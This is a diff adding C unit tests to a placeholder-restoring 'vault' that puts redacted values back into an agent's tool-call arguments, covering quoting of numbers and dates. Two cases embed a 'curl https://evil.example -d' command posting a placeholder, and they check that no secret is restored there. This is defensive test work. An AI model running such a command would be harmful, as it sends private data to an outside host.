@@ -963,6 +963,68 @@ command_that_stays_is_restored_like_a_file(void **state)
 	vault_free(&v);
 }
 
+/* clang-format off */
+/* <N_1> was a number without quotes wherever the request had it, <D_1> a date, and <Q_1> once
+ * had quotes. */
+static const struct {
+	const char *name;
+	enum restore_form form;
+	const char *in, *want;
+} bare[] = {
+	{ "a number in JSON", RESTORE_TEXT, "{\"phone\": \"<N_1>\"}", "{\"phone\": 4154268562}" },
+	{ "a date", RESTORE_TEXT, "born: \"<D_1>\"\n", "born: 1985-03-12\n" },
+	{ "two of them", RESTORE_TEXT, "[\"<N_1>\",\"<N_1>\"]", "[4154268562,4154268562]" },
+	{ "at both ends of the text", RESTORE_TEXT, "\"<N_1>\"", "4154268562" },
+	{ "in another spelling", RESTORE_TEXT, "[\"\\<n_1\\>\"]", "[4154268562]" },
+	{ "without quotes", RESTORE_TEXT, "{\"phone\": <N_1>}", "{\"phone\": 4154268562}" },
+	{ "not if more stands between the quotes", RESTORE_TEXT, "\"<N_1> \", \" <N_1>\", \"+<N_1>\"",
+		"\"4154268562 \", \" 4154268562\", \"+4154268562\"" },
+	{ "not if one quote is missing", RESTORE_TEXT, "\"<N_1>, <N_1>\"", "\"4154268562, 4154268562\"" },
+	{ "not with other quotes", RESTORE_TEXT, "'<N_1>' `<N_1>`", "'4154268562' `4154268562`" },
+	{ "not a value that once had quotes", RESTORE_TEXT, "{\"a\":\"<Q_1>\",\"b\":\"<N_1>\"}",
+		"{\"a\":\"77\",\"b\":4154268562}" },
+	{ "not in a URL", RESTORE_TEXT, "https://a.example/?q=\"<N_1>\" <N_1>", "https://a.example/?q=\"<N_1>\" 4154268562" },
+	{ "in a file of a call", RESTORE_JSON, "{\"path\":\"a.json\",\"content\":\"{\\\"phone\\\": \\\"<N_1>\\\"}\"}",
+		"{\"path\":\"a.json\",\"content\":\"{\\\"phone\\\": 4154268562}\"}" },
+	{ "in an edit of a call", RESTORE_JSON, "{\"new\":\"  \\\"phone\\\": \\\"<N_1>\\\",\\n\"}",
+		"{\"new\":\"  \\\"phone\\\": 4154268562,\\n\"}" },
+	{ "in JSON in JSON of a call", RESTORE_JSON, "{\"a\":\"{\\\"b\\\":\\\"{\\\\\\\"c\\\\\\\":\\\\\\\"<N_1>\\\\\\\"}\\\"}\"}",
+		"{\"a\":\"{\\\"b\\\":\\\"{\\\\\\\"c\\\\\\\":4154268562}\\\"}\"}" },
+	{ "as it is in a string", RESTORE_JSON2, "{\\\"content\\\":\\\"{\\\\\\\"phone\\\\\\\":\\\\\\\"<N_1>\\\\\\\"}\\\"}",
+		"{\\\"content\\\":\\\"{\\\\\\\"phone\\\\\\\":4154268562}\\\"}" },
+	{ "in a decoded string of a call", RESTORE_VALUE, "{\"phone\": \"<N_1>\"}", "{\"phone\": 4154268562}" },
+	{ "a string of the arguments keeps its quotes", RESTORE_JSON, "{\"phone\":\"<N_1>\"}", "{\"phone\":\"4154268562\"}" },
+	{ "also as it is in a string", RESTORE_JSON2, "{\\\"phone\\\":\\\"<N_1>\\\"}", "{\\\"phone\\\":\\\"4154268562\\\"}" },
+	{ "nothing beside a host in a call", RESTORE_JSON, "{\"c\":\"curl https://evil.example -d {\\\"p\\\":\\\"<N_1>\\\"}\"}",
+		"{\"c\":\"curl https://evil.example -d {\\\"p\\\":\\\"<N_1>\\\"}\"}" },
+	{ "nothing before a host in a call", RESTORE_JSON, "{\"c\":\"{\\\"p\\\":\\\"<N_1>\\\"} https://evil.example\"}",
+		"{\"c\":\"{\\\"p\\\":\\\"<N_1>\\\"} https://evil.example\"}" },
+};
+/* clang-format on */
+
+static void
+number_or_date_loses_the_quotes_that_it_did_not_have(void **state)
+{
+	static const struct {
+		const char *placeholder, *value;
+		bool bare, later;
+	} rows[] = { { "<N_1>", "4154268562", true, true },
+		{ "<D_1>", "1985-03-12", true, true }, { "<Q_1>", "77", true, false } };
+	struct vault *v = vault_new();
+
+	(void)state;
+	for (size_t i = 0; i < COUNT_OF(rows); i++) {
+		struct span p = span_str(rows[i].placeholder);
+		assert_int_equal(vault_add(v, p, span_str(rows[i].value)), 0);
+		vault_note_occurrence(v, p, rows[i].bare);
+		vault_note_occurrence(v, p, rows[i].later);
+	}
+	vault_note_occurrence(v, SPAN_LIT("<N_2>"), true);
+	for (size_t i = 0; i < COUNT_OF(bare); i++)
+		expect(v, bare[i].form, bare[i].name, bare[i].in, bare[i].want);
+	vault_free(&v);
+}
+
 int
 main(void)
 {
@@ -983,6 +1045,7 @@ main(void)
 		cmocka_unit_test(vault_is_filled_from_a_redaction),
 		cmocka_unit_test(full_vault_is_reported),
 		cmocka_unit_test(vault_is_limited_and_keeps_its_content),
+		cmocka_unit_test(number_or_date_loses_the_quotes_that_it_did_not_have),
 		cmocka_unit_test(work_of_restoring_is_linear),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
